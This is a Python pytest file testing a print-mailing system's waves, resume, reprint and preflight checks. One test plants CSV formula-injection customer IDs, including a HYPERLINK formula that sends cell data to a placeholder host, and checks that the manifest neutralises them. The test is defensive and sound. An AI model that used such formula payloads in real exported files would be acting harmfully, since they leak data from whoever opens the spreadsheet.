"""Waves as a state machine with their own files: each test is named after a finding of issue 9."""

from __future__ import annotations

import csv
import hashlib
import time
from pathlib import Path

import pytest
from pypdf import PdfReader
from recipients_helper import add_recipients
from sqlalchemy import func, select, update

from mailing.campaigns import load, register_campaign
from mailing.cli import main
from mailing.errors import MailingError
from mailing.package import manifest_csv_name
from mailing.preflight import preflight
from mailing.production import produce
from mailing.store import Store, recipients, waves
from mailing.waves import plan_wave


def _campaign(store: Store, folder: Path, name: str, batch_size: int = 7, subject: str | None = None) -> str:
    from mailing.config import example_campaign_path

    text = example_campaign_path().read_text(encoding="utf-8")
    text = text.replace('name = "fruehjahr-2026"', f'name = "{name}"').replace("batch_size = 5000",
                                                                              f"batch_size = {batch_size}")
    if subject:
        text = text.replace('subject = "Ihr Frühjahrsangebot: 20 % auf alle Gartenmöbel"', f'subject = "{subject}"')
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.toml"
    path.write_text(text, encoding="utf-8")
    register_campaign(store, path)
    return name


@pytest.fixture
def camp(store: Store, tmp_path: Path) -> str:
    name = _campaign(store, tmp_path / "k", "alpha")
    add_recipients(store, name, 20)
    return name


def _db(store: Store) -> str:
    return store.url.removeprefix("sqlite:///")


def _files(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _kill_after_first_batch(done: int, total: int) -> None:
    if done > 0:
        raise KeyboardInterrupt


def _wave_count(store: Store) -> int:
    with store.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(waves)).scalar_one())


def test_produce_before_import_records_no_empty_wave(store: Store, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    name = _campaign(store, tmp_path / "k", "leer")
    assert main(["--db", _db(store), "produce", name, "--out", str(tmp_path / "druck")]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "no recipients to mail" in err and "mailing import" in err
    assert _wave_count(store) == 0
    add_recipients(store, name, 5)
    res = produce(store, name, tmp_path / "druck")
    assert res.wave == 1 and res.pieces == 5


def test_all_suppressed_campaign_is_refused_without_a_wave(store: Store, camp: str, tmp_path: Path) -> None:
    with store.begin() as conn:
        conn.execute(update(recipients).values(active=False))
    with pytest.raises(MailingError, match="no recipients to mail"):
        produce(store, camp, tmp_path / "druck")
    assert _wave_count(store) == 0


def test_produce_after_wave_2_does_not_render_wave_1_into_a_new_folder(store: Store, camp: str, tmp_path: Path,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    produce(store, camp, tmp_path / "druck1")
    with store.begin() as conn:
        cid, c = load(conn, camp)
        ids = [r[0] for r in conn.execute(select(recipients.c.id).limit(4))]
        plan_wave(conn, cid, c, kind="letter:infopack", recipient_ids=ids, letter="infopack", rule="info-pack")
    assert produce(store, camp, tmp_path / "druck2").wave == 2
    before = _files(tmp_path / "druck2")
    assert main(["--db", _db(store), "produce", camp, "--out", str(tmp_path / "druck2")]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "all waves" in err and "--wave N --reprint" in err
    assert main(["--db", _db(store), "produce", camp, "--out", str(tmp_path / "druck3")]) == 1
    assert not (tmp_path / "druck3").exists()
    assert _files(tmp_path / "druck2") == before
    assert main(["--db", _db(store), "produce", camp, "--wave", "1", "--out", str(tmp_path / "druck3")]) == 1
    assert "--reprint" in capsys.readouterr().err
    assert sorted(before) == ["welle-02-auftrag.json", "welle-02-auftrag.txt", "welle-02-laufzettel.pdf",
                              "welle-02-manifest.csv",
                              "welle-02-manifest.xlsx", "welle-02-teil-001.pdf"]


def test_reprint_writes_byte_identical_files_even_after_the_campaign_file_changed(
        store: Store, camp: str, tmp_path: Path) -> None:
    first = produce(store, camp, tmp_path / "druck", drop_date=None)
    original = _files(tmp_path / "druck")
    time.sleep(1.1)  # a second later: nothing in the files may depend on the clock
    _campaign(store, tmp_path / "k2", camp, batch_size=3, subject="Ganz anderer Betreff")
    assert main(["--db", _db(store), "produce", camp, "--wave", "1", "--reprint", "--out",
                 str(tmp_path / "nachdruck")]) == 0
    assert _files(tmp_path / "nachdruck") == original
    assert len(original) == len(first.files) + 5  # manifest CSV + XLSX, ticket JSON + text, docket PDF
    # into the original folder: nothing to render, the same bytes
    res = produce(store, camp, tmp_path / "druck", wave=1, reprint=True)
    assert res.rendered == 0 and _files(tmp_path / "druck") == original
    assert preflight(tmp_path / "nachdruck") == []


def test_changed_campaign_file_between_interrupted_produce_and_resume_mixes_no_letter_texts(
        store: Store, camp: str, tmp_path: Path) -> None:
    out = tmp_path / "druck"
    with pytest.raises(KeyboardInterrupt):
        produce(store, camp, out, progress=_kill_after_first_batch)
    assert len(list(out.glob("*.pdf"))) == 1
    _campaign(store, tmp_path / "k2", camp, batch_size=3, subject="Ganz anderer Betreff")
    res = produce(store, camp, out)
    assert res.reused == 1 and len(res.files) == 3  # still the planned batch size of 7
    texts = [page.extract_text() for f in res.files for page in PdfReader(f).pages]
    assert len(texts) == 20
    assert all("Frühjahrsangebot" in t or "Nur für Sie" in t for t in texts)
    assert not any("Ganz anderer Betreff" in t for t in texts)
    # the next wave is planned with the new text
    with store.begin() as conn:
        cid, c = load(conn, camp)
        plan_wave(conn, cid, c, kind="reminder", recipient_ids=[1, 2, 3])
    res2 = produce(store, camp, tmp_path / "druck2")
    assert any("Ganz anderer Betreff" in p.extract_text() for p in PdfReader(res2.files[0]).pages)


def test_resume_with_another_drop_date_is_refused(store: Store, camp: str, tmp_path: Path) -> None:
    from datetime import date

    with pytest.raises(KeyboardInterrupt):
        produce(store, camp, tmp_path / "druck", drop_date=date(2026, 3, 2), progress=_kill_after_first_batch)
    with pytest.raises(MailingError, match="already being produced with drop date 2026-03-02"):
        produce(store, camp, tmp_path / "druck", drop_date=date(2026, 3, 9))
    assert produce(store, camp, tmp_path / "druck").wave == 1


def test_second_campaign_into_the_same_folder_is_refused_not_resumed_on_the_first_ones_pdf(
        store: Store, camp: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "druck"
    other = _campaign(store, tmp_path / "k2", "beta")
    add_recipients(store, other, 20, start=100)
    # the first campaign interrupted (no job ticket yet) and finished: both refuse the second one
    with pytest.raises(KeyboardInterrupt):
        produce(store, camp, out, progress=_kill_after_first_batch)
    before = _files(out)
    assert main(["--db", _db(store), "produce", other, "--out", str(out)]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert "welle-01-teil-001.pdf belongs to wave 1 of campaign 'alpha'" in err and "'beta'" in err
    assert _files(out) == before
    produce(store, camp, out)
    with pytest.raises(MailingError, match="belongs to wave 1 of campaign 'alpha'"):
        produce(store, other, out)
    with store.connect() as conn:
        statuses = [r[0] for r in conn.execute(select(waves.c.status).order_by(waves.c.id))]
    assert statuses == ["produced"], "the refused campaign recorded no wave"
    assert preflight(out) == []


def test_preflight_flags_a_file_of_another_campaign_in_the_folder(store: Store, camp: str, tmp_path: Path) -> None:
    other = _campaign(store, tmp_path / "k2", "beta")
    add_recipients(store, other, 5, start=100)
    produce(store, camp, tmp_path / "a")
    produce(store, other, tmp_path / "b")
    (tmp_path / "a" / "welle-01-teil-001.pdf").write_bytes((tmp_path / "b" / "welle-01-teil-001.pdf").read_bytes())
    (tmp_path / "a" / "welle-02-auftrag.txt").write_text("x", encoding="utf-8")
    text = "\n".join(preflight(tmp_path / "a"))
    assert "welle-01-teil-001.pdf belongs to wave 1 of campaign 'beta'" in text
    assert "welle-02-auftrag.txt belongs to wave 2" in text


def test_resume_trusts_only_a_recorded_sha256_and_removes_stray_part_files(store: Store, camp: str,
                                                                          tmp_path: Path) -> None:
    out = tmp_path / "druck"
    with pytest.raises(KeyboardInterrupt):
        produce(store, camp, out, progress=_kill_after_first_batch)
    good = (out / "welle-01-teil-001.pdf").read_bytes()
    damaged = bytearray(good)
    damaged[len(damaged) // 2] ^= 0xFF
    (out / "welle-01-teil-001.pdf").write_bytes(bytes(damaged))  # same name, same pages, other bytes
    (out / "welle-01-teil-002.pdf").write_bytes(good)  # a complete PDF never recorded for batch 2
    part = out / ".welle-01-teil-003.pdf.x1y2.part"
    part.write_bytes(b"%PDF-1.4 half")
    res = produce(store, camp, out)
    assert res.rendered == 3 and res.reused == 0 and res.removed_parts == [part.name]
    assert (out / "welle-01-teil-001.pdf").read_bytes() == good
    assert not part.exists() and preflight(out) == []


def test_manifest_csv_keeps_a_formula_like_customer_id_from_becoming_a_formula(store: Store, camp: str,
                                                                              tmp_path: Path) -> None:
    with store.begin() as conn:
        conn.execute(update(recipients).where(recipients.c.id == 1).values(
            customer_id='=HYPERLINK("http://x.example/?"&A1,"klick")'))
        conn.execute(update(recipients).where(recipients.c.id == 2).values(customer_id="@SUM(A1)"))
        conn.execute(update(recipients).where(recipients.c.id == 3).values(customer_id="-4711"))
    produce(store, camp, tmp_path / "druck")
    with (tmp_path / "druck" / manifest_csv_name(1)).open(encoding="utf-8") as fh:
        ids = {r["customer_id"] for r in csv.DictReader(fh)}
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"klick\")" in ids and "'@SUM(A1)" in ids
    assert "-4711" in ids, "a plain negative number cannot call anything and stays as it is"
    assert not any(i.startswith(("=", "+", "@")) for i in ids)
    assert preflight(tmp_path / "druck") == []


def test_wave_keeps_the_campaign_text_it_was_planned_with(store: Store, camp: str, tmp_path: Path) -> None:
    with store.begin() as conn:
        cid, c = load(conn, camp)
        wave_id = plan_wave(conn, cid, c)
    _campaign(store, tmp_path / "k2", camp, subject="Neuer Betreff")
    with store.connect() as conn:
        text = conn.execute(select(waves.c.config_toml).where(waves.c.id == wave_id)).scalar_one()
    assert "Frühjahrsangebot" in text and "Neuer Betreff" not in text
    res = produce(store, camp, tmp_path / "druck")
    assert "Frühjahrsangebot" in PdfReader(res.files[0]).pages[0].extract_text()


@pytest.mark.parametrize("jobs", [1, 2])
def test_reprint_refuses_to_write_a_file_that_would_differ_from_the_original(store: Store, camp: str,
                                                                            tmp_path: Path, jobs: int) -> None:
    produce(store, camp, tmp_path / "druck")
    with store.begin() as conn:
        conn.execute(update(recipients).values(last_name="Geändert"))
    with pytest.raises(MailingError, match=r"\(and 2 more file\(s\)\): rendered again, it differs"):
        produce(store, camp, tmp_path / "nachdruck", wave=1, reprint=True, jobs=jobs)
    assert not list((tmp_path / "nachdruck").glob("*.pdf")) and not list((tmp_path / "nachdruck").glob(".*"))


def test_reprint_needs_a_produced_wave_and_keeps_its_drop_date(store: Store, camp: str, tmp_path: Path) -> None:
    from datetime import date

    with pytest.raises(MailingError, match="no wave 1"):
        produce(store, camp, tmp_path / "x", wave=1, reprint=True)
    with store.begin() as conn:
        cid, c = load(conn, camp)
        plan_wave(conn, cid, c)
    with pytest.raises(MailingError, match="not produced yet"):
        produce(store, camp, tmp_path / "x", wave=1, reprint=True)
    produce(store, camp, tmp_path / "druck")
    with pytest.raises(MailingError, match="--drop-date cannot be used with --reprint"):
        produce(store, camp, tmp_path / "x", wave=1, reprint=True, drop_date=date(2026, 1, 1))


def test_preflight_flags_a_stray_part_file(store: Store, camp: str, tmp_path: Path) -> None:
    produce(store, camp, tmp_path / "druck")
    (tmp_path / "druck" / ".welle-01-teil-001.pdf.abc.part").write_bytes(b"half")
    assert any("temporary file left by an interrupted run" in p for p in preflight(tmp_path / "druck"))


@pytest.mark.parametrize("name", ["fruehjahr-2026", "Frühjahr (2026) \\ Ärger", "日本-kampagne"])
def test_a_pdf_names_its_campaign_and_wave_whatever_the_campaign_is_called(tmp_path: Path, name: str) -> None:
    import dataclasses

    from layouts.render import render_sample_pdf
    from mailing.codes import new_code
    from mailing.config import example_campaign_path, load_campaign
    from mailing.package import package_files

    c = dataclasses.replace(load_campaign(example_campaign_path()), name=name)
    render_sample_pdf(tmp_path / "welle-03-teil-001.pdf", [new_code() for _ in range(3)], c)
    assert [(f.path.name, f.wave, f.campaign) for f in package_files(tmp_path)] == [
        ("welle-03-teil-001.pdf", 1, name)]
